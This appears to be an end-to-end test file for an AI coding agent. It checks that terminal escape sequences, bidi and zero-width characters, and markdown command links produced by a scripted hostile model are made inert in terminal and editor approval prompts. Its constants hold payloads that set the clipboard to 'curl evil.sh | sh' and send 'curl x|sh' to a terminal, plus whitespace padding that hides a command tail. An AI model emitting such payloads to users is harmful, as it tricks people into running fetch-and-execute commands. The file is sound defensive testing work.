"""Text that cannot act: escape sequences, bidi and zero-width characters and markdown
links from the model or a command reach the terminal and the editor's prompts inert.

The attacks run through the real `ndomo run` (with a pseudo-terminal for the approval
prompt) and the real `ndomo serve`, with the scripted model and real bash.
"""

from __future__ import annotations

import os
import pty
import re
import subprocess
import sys

from lsprotocol import types

from tests.e2e.conftest import command, server_env
from tests.fakes.fake_model import FakeModel

ESC = "\x1b"
OSC52 = ESC + "]52;c;Y3VybCBldmlsLnNoIHwgc2g=" + "\x07"  # sets the clipboard to `curl evil.sh | sh`
LINK = (
    "[Once](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%22%7D)"
)
RLO = "\u202e"
ZWSP = "\u200b"


def ndomo_run(workspace, fake, *args, stdin=None, timeout=60):
    return subprocess.run(
        [sys.executable, "-m", "ndomo", "run", "--workspace", str(workspace), *args],
        stdin=stdin if stdin is not None else subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=timeout,
        env=server_env({"NDOMO_BASE_URL": fake.url}),
    )


def test_ndomo_run_prints_no_escape_sequence_from_the_model_or_a_command(tmp_path):
    # the file a command prints: move up a line and erase it (the `→ bash(…)` record)
    (tmp_path / "out.txt").write_text(f"done{ESC}[1A{ESC}[2K{ESC}[1A{ESC}[2Kall good\n")
    script = [
        {"tool_calls": [{"name": "bash", "arguments": {"command": "cat out.txt"}}]},
        {
            "text": f"here{OSC52} it is{ESC}]0;title{ESC}\\ {RLO}gnp.exe{ZWSP}\nnext\tline",
            "chunks": 7,  # the OSC sequences are cut across chunks
        },
    ]
    with FakeModel(script=script) as fake:
        out = ndomo_run(
            tmp_path, fake, "--mode", "autopilot", "--agent", "craftsman", "--yes", "show it"
        )
    assert out.returncode == 0, out.stdout + out.stderr
    assert ESC not in out.stdout and RLO not in out.stdout and ZWSP not in out.stdout
    assert "→ bash(command='cat out.txt')" in out.stdout  # the record stays readable
    assert "\\x1b[1A\\x1b[2K" in out.stdout  # the command's escapes are shown
    assert "52;c;" not in out.stdout and "title" not in out.stdout  # OSC removed from the answer
    assert "here it is \\u202egnp.exe\\u200b\nnext\tline" in out.stdout


def test_terminal_approval_leads_with_the_reason_and_shows_the_whole_command_escaped(tmp_path):
    canary = tmp_path / "canary"
    # padding to push the tail out of sight, then `ESC[2K\r` + `ESC[8m`: erase the prompt
    # line and print the rest invisibly
    tail = "A" * 400
    command_text = f"echo ok{' ' * 1000}; touch {canary}; echo {tail} {ESC}[2K\r{ESC}[8m"
    script = [
        {"tool_calls": [{"name": "bash", "arguments": {"command": command_text}}]},
        {"text": "asked"},
    ]
    main, sub = pty.openpty()
    try:
        os.write(main, b"d\n")  # the user reads the prompt and denies
        with FakeModel(script=script) as fake:
            out = ndomo_run(
                tmp_path, fake, "--mode", "autopilot", "--agent", "craftsman", "go", stdin=sub
            )
    finally:
        os.close(main)
        os.close(sub)
    assert out.returncode == 0, out.stdout + out.stderr
    prompt = out.stderr
    assert ESC not in prompt and "\r" not in prompt
    (question,) = [line for line in prompt.splitlines() if line.startswith("? ")]
    # the reason and where it runs come first, the subject capped with what it leaves out
    assert question.index("if allowed it runs") < question.index("wants bash:")
    # whitespace collapsed (the padding hides nothing), the subject capped
    assert f"wants bash: echo ok ; touch {canary}; echo AAA" in question
    assert re.search(r"A… \([\d,]+ more characters\)", question)
    # the whole command is printed, escaped, before the question
    assert f"echo {tail} \\x1b[2K\\x0d\\x1b[8m" in prompt
    assert not canary.exists()


async def test_editor_prompts_get_no_controls_links_or_hidden_tails(lsp, tmp_path):
    canary = tmp_path / "canary"
    padded = f"echo {LINK}{RLO}{ZWSP}{' ' * 1000}; touch {canary}; echo {'A' * 400}"
    question = f"Pick {LINK} or {RLO}cba{ZWSP}"
    script = [
        {"tool_calls": [{"name": "ask_user", "arguments": {"question": question}}]},
        {"tool_calls": [{"name": "bash", "arguments": {"command": padded}}]},
        {"text": f"done{OSC52}"},
    ]
    asked: list[types.ShowMessageRequestParams] = []

    def on_request(params: types.ShowMessageRequestParams):
        asked.append(params)
        return types.MessageActionItem(title=params.actions[-1].title)  # OK / Deny

    with FakeModel(script=script) as fake:
        client = await lsp.start(
            tmp_path,
            env={"NDOMO_BASE_URL": fake.url},
            init_options={"open_transcript": False},
            handlers={types.WINDOW_SHOW_MESSAGE_REQUEST: on_request},
        )
        turn = {"prompt": "go", "agent": "craftsman", "mode": "autopilot"}
        summary = await command(client, "ndomo.turn", turn)
    assert summary["status"] == "done"
    assert len(asked) == 2, [a.message for a in asked]
    for params in asked:
        text = params.message
        assert RLO not in text and ZWSP not in text and ESC not in text
        assert "](" not in text and "command:" not in text
        assert "\\u202e" in text
    ask, approval = asked[0].message, asked[1].message
    assert "[Once] (command :workbench" in ask
    assert approval.index("if allowed it runs") < approval.index("wants bash:")
    assert re.search(r"… \([\d,]+ more characters\)", approval)
    assert f"; touch {canary}; echo AAA" in approval and " " * 2 not in approval
    assert len(approval) < 1000  # all of it within what VS Code shows
    assert not canary.exists()
